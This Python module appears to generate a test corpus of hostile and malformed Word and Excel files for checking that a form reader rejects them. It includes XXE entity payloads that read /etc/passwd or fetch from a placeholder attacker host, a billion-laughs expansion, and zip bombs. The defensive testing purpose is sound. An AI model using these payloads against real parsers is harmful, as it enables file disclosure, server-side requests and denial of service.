"""Hostile and broken files, made from a valid form, for the demo and the test corpus.

Each sample names the rejection code the reader must give it. Everything is generated
here from the templates: no real attack file, and nothing that points anywhere real (the
external entities name a file and a host that do not matter, because they are never
resolved).
"""

# ruff: noqa: S311  (seeded generators make the corpus reproducible; nothing here is a secret)
from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

from shared.adapters.forms import ooxml
from shared.adapters.forms.safety import CUSTOM_PART, EXCEL_PART, WORD_PART


@dataclass(frozen=True, slots=True)
class HostileSample:
    name: str
    data: bytes
    expected: str  # the rejection code


_XML_DECLARATION = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'

DTD_VARIANTS: dict[str, bytes] = {
    "xxe-file": b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "xxe-http": b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.invalid/x">]>',
    "xxe-parameter": b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>',
    "external-dtd": b'<!DOCTYPE r SYSTEM "http://attacker.invalid/r.dtd">',
    "billion-laughs": b"<!DOCTYPE r [<!ENTITY a0 'ha'>"
    + b"".join(
        b"<!ENTITY a%d '%s'>" % (i, b"".join(b"&a%d;" % (i - 1) for _ in range(10))) for i in range(1, 10)
    )
    + b"]>",
    "internal-entity": b"<!DOCTYPE r [<!ENTITY name 'Fictional'>]>",
    "bare-doctype": b"<!DOCTYPE r>",
}


def with_parts(package: bytes, replacements: dict[str, bytes]) -> bytes:
    return ooxml.replace_parts(package, replacements)


def part(package: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return archive.read(name)


def with_dtd(package: bytes, name: str, variant: str) -> bytes:
    """The part with a DTD slipped in after its XML declaration (and an entity used)."""
    xml = part(package, name)
    body = xml[len(_XML_DECLARATION) :] if xml.startswith(_XML_DECLARATION) else xml
    return with_parts(package, {name: _XML_DECLARATION + DTD_VARIANTS[variant] + body})


def macro_enabled(package: bytes, where: str = "word/vbaProject.bin") -> bytes:
    return with_parts(package, {where: b"\xcc\x61" + b"\0" * 64})


def encrypted_container(seed: int) -> bytes:
    """An OLE compound file carrying the streams Office uses for a password-protected document."""
    noise = random.Random(seed).randbytes(512)
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + noise
        + "EncryptionInfo".encode("utf-16-le")
        + noise
        + "EncryptedPackage".encode("utf-16-le")
    )


def zip_flagged_encrypted(package: bytes) -> bytes:
    """The same zip with every entry's 'encrypted' flag set, as zip-level password tools do."""
    data = bytearray(package)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            flags = struct.unpack_from("<H", data, start + offset)[0]
            struct.pack_into("<H", data, start + offset, flags | 0x1)
            start += 4
    return bytes(data)


def corrupt_part_data(package: bytes, name: str, seed: int) -> bytes:
    """Flip bytes inside one part's compressed data, leaving the zip structure intact."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        info = archive.getinfo(name)
    data = bytearray(package)
    header = info.header_offset
    name_length, extra_length = struct.unpack_from("<HH", data, header + 26)
    start = header + 30 + name_length + extra_length
    rng = random.Random(seed)
    for _ in range(1 + seed % 4):
        position = start + rng.randrange(max(info.compress_size, 1))
        data[position] ^= rng.randrange(1, 256)
    return bytes(data)


def understated_size(package: bytes, name: str) -> bytes:
    """A part whose directory entry claims it is far smaller than it inflates to."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        info = archive.getinfo(name)
    data = bytearray(package)
    start = 0
    encoded = name.encode()
    while (start := data.find(b"PK\x01\x02", start)) != -1:
        name_length = struct.unpack_from("<H", data, start + 28)[0]
        if bytes(data[start + 46 : start + 46 + name_length]) == encoded:
            struct.pack_into("<I", data, start + 24, max(info.file_size // 50, 1))
        start += 4
    return bytes(data)


def _zip(entries: list[tuple[str, bytes]], level: int = 9) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=ooxml.FIXED_ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def zip_bomb(uncompressed: int, main_part: str = WORD_PART, filler: bytes = b"\0") -> bytes:
    """A 'form' whose main part inflates to ``uncompressed`` bytes from a few kilobytes."""
    return _zip([("[Content_Types].xml", b"<Types/>"), (main_part, filler * uncompressed)])


def many_parts(count: int) -> bytes:
    entries = [("[Content_Types].xml", b"<Types/>"), (WORD_PART, b"<document/>")]
    entries += [(f"word/media/part{n}.xml", b"<x/>") for n in range(count)]
    return _zip(entries, level=1)


def with_properties(package: bytes, properties: dict[str, str | int]) -> bytes:
    return with_parts(package, {CUSTOM_PART: ooxml.custom_properties_xml(properties)})


def without_part(package: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return ooxml.write_zip([(n, archive.read(n)) for n in archive.namelist() if n != name])


def _random_bytes(seed: int) -> bytes:
    rng = random.Random(seed)
    return b"X" + rng.randbytes(rng.randrange(1, 4096))


def hostile_corpus(
    word: bytes, excel: bytes, *, template_id: str, schema_id: str, form_version: int, schema_version: int
) -> Iterator[HostileSample]:
    """Over a thousand hostile or broken files, each with the rejection it must get.

    ``word`` and ``excel`` are valid filled forms of ``template_id``; the versions are the
    current ones, so the corpus can claim newer and older ones.
    """
    rng = random.Random(2026)
    yield HostileSample("empty.docx", b"", "empty-file")
    for seed in range(150):
        yield HostileSample(f"random-{seed}.docx", _random_bytes(seed), "not-office")
    for name, data in (
        ("pdf.docx", b"%PDF-1.7\n%fictional\n"),
        ("web-page.docx", b"<html><body>not a form</body></html>"),
        ("rtf.docx", b"{\\rtf1 fictional}"),
        ("text.xlsx", b"case_ref,grade\nDEMO-1,Good\n"),
        ("letter-p.docx", b"P"),
    ):
        yield HostileSample(name, data, "not-office")
    for kind, package in (("docx", word), ("xlsx", excel)):
        # Truncated: cut short anywhere after the zip signature.
        for cut in range(180):
            at = 4 + (len(package) - 8) * cut // 180
            yield HostileSample(f"truncated-{cut}.{kind}", package[:at], "corrupt-zip")
        main = WORD_PART if kind == "docx" else "xl/worksheets/sheet1.xml"
        for seed in range(50):
            yield HostileSample(
                f"corrupt-{seed}.{kind}", corrupt_part_data(package, main, seed), "corrupt-zip"
            )
        for seed in range(5):
            yield HostileSample(f"understated-{seed}.{kind}", understated_size(package, main), "corrupt-zip")
        yield HostileSample(f"zip-encrypted.{kind}", zip_flagged_encrypted(package), "encrypted")
        for where in (
            "word/vbaProject.bin",
            "xl/vbaProject.bin",
            "WORD/VBAPROJECT.BIN",
            "customUI/vbaProject.bin",
        ):
            yield HostileSample(
                f"macro-{where.replace('/', '-')}.{kind}", macro_enabled(package, where), "macros"
            )
        macro_type = b"application/vnd.ms-word.document.macroEnabled.main+xml"
        types = part(package, "[Content_Types].xml").replace(
            b"</Types>", b'<Override PartName="/x.xml" ContentType="' + macro_type + b'"/></Types>'
        )
        yield HostileSample(
            f"macro-content-type.{kind}", with_parts(package, {"[Content_Types].xml": types}), "macros"
        )
        for extension in ("docm", "xlsm", "dotm", "xltm", "xlsb"):
            for copy in range(4):
                yield HostileSample(f"macro-enabled-{copy}.{extension}", package, "macros")
        parts = (
            [WORD_PART, "word/styles.xml"]
            if kind == "docx"
            else [EXCEL_PART, "xl/worksheets/sheet1.xml", "xl/styles.xml"]
        )
        parts += [CUSTOM_PART, "[Content_Types].xml", "_rels/.rels", "docProps/core.xml"]
        for name in parts:
            for variant in DTD_VARIANTS:
                label = name.replace("/", "-").strip("[]")
                yield HostileSample(
                    f"dtd-{variant}-{label}.{kind}", with_dtd(package, name, variant), "xml-dtd"
                )
            utf16 = part(package, name).decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
            yield HostileSample(
                f"utf16-{name.replace('/', '-')}.{kind}",
                with_parts(package, {name: utf16.encode("utf-16")}),
                "xml-encoding",
            )
        for seed in range(25):
            text = part(package, CUSTOM_PART)
            cut = rng.randrange(len(_XML_DECLARATION) + 5, len(text) - 2)
            yield HostileSample(
                f"malformed-custom-{seed}.{kind}",
                with_parts(package, {CUSTOM_PART: text[:cut]}),
                "xml-malformed",
            )
        for seed in range(25):
            text = part(package, main)
            cut = rng.randrange(len(text) // 3, len(text) - 20)
            yield HostileSample(
                f"malformed-main-{seed}.{kind}",
                with_parts(package, {main: text[:cut] + b"<oops"}),
                "xml-malformed",
            )
        current: dict[str, str | int] = {
            ooxml.PROP_TEMPLATE: template_id,
            ooxml.PROP_TEMPLATE_VERSION: form_version,
            ooxml.PROP_SCHEMA: schema_id,
            ooxml.PROP_SCHEMA_VERSION: schema_version,
        }
        yield HostileSample(
            f"no-properties.{kind}", without_part(package, CUSTOM_PART), "not-audit-desk-form"
        )
        yield HostileSample(
            f"no-template-id.{kind}",
            with_properties(package, {"Company": "Fictional"}),
            "not-audit-desk-form",
        )
        for other in (
            "thematic-audit",
            "case-file-audit-v0",
            "CASE-FILE-AUDIT",
            "x" * 300,
            "staff observation",
        ):
            props: dict[str, str | int] = {**current, ooxml.PROP_TEMPLATE: other}
            yield HostileSample(
                f"other-template-{len(other)}.{kind}", with_properties(package, props), "other-template"
            )
        yield HostileSample(
            f"other-schema.{kind}",
            with_properties(package, {**current, ooxml.PROP_SCHEMA: "another-council"}),
            "other-template",
        )
        for newer in (1, 2, 10):
            yield HostileSample(
                f"newer-form-{newer}.{kind}",
                with_properties(package, {**current, ooxml.PROP_TEMPLATE_VERSION: form_version + newer}),
                "newer-schema",
            )
            yield HostileSample(
                f"newer-schema-{newer}.{kind}",
                with_properties(package, {**current, ooxml.PROP_SCHEMA_VERSION: schema_version + newer}),
                "newer-schema",
            )
        for bad in ("", "two", "-1", "1.5", "9" * 40):
            yield HostileSample(
                f"bad-version-{len(bad)}.{kind}",
                with_properties(package, {**current, ooxml.PROP_TEMPLATE_VERSION: bad}),
                "unsupported-version",
            )
        yield HostileSample(
            f"older-form.{kind}",
            with_properties(package, {**current, ooxml.PROP_TEMPLATE_VERSION: 0}),
            "unsupported-version",
        )
        renamed = (
            {WORD_PART: part(package, WORD_PART).replace(b'w:tag w:val="', b'w:tag w:val="old_')}
            if kind == "docx"
            else {
                EXCEL_PART: part(package, EXCEL_PART).replace(
                    b'definedName name="', b'definedName name="old_'
                )
            }
        )
        yield HostileSample(f"no-fields.{kind}", with_parts(package, renamed), "no-fields")
        yield HostileSample(
            f"no-main-part.{kind}",
            without_part(package, main if kind == "docx" else EXCEL_PART),
            "not-office",
        )
        yield HostileSample(
            f"no-content-types.{kind}", without_part(package, "[Content_Types].xml"), "not-office"
        )
    for seed in range(20):
        yield HostileSample(f"encrypted-{seed}.docx", encrypted_container(seed), "encrypted")
        yield HostileSample(
            f"old-binary-{seed}.doc.docx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(seed).randbytes(600),
            "old-format",
        )
    bomb = zip_bomb(48 * 1024 * 1024)
    for copy in range(10):
        yield HostileSample(f"zip-bomb-part-{copy}.docx", bomb, "zip-bomb")
    ratio = zip_bomb(4 * 1024 * 1024, filler=b"a")
    for copy in range(10):
        yield HostileSample(f"zip-bomb-ratio-{copy}.docx", ratio, "zip-bomb")
    sheet_bomb = zip_bomb(3 * 1024 * 1024, main_part=EXCEL_PART, filler=b" ")
    for copy in range(10):
        yield HostileSample(f"zip-bomb-sheet-{copy}.xlsx", sheet_bomb, "zip-bomb")
    wide = many_parts(500)
    for copy in range(5):
        yield HostileSample(f"zip-bomb-parts-{copy}.docx", wide, "zip-bomb")
    for count, names in enumerate(
        (
            ["mimetype", "content.xml"],
            ["ppt/presentation.xml", "[Content_Types].xml"],
            ["readme.txt"],
            ["word/other.xml", "[Content_Types].xml"],
        )
    ):
        for copy in range(5):
            yield HostileSample(
                f"other-zip-{count}-{copy}.docx", _zip([(n, b"<x/>") for n in names]), "not-office"
            )
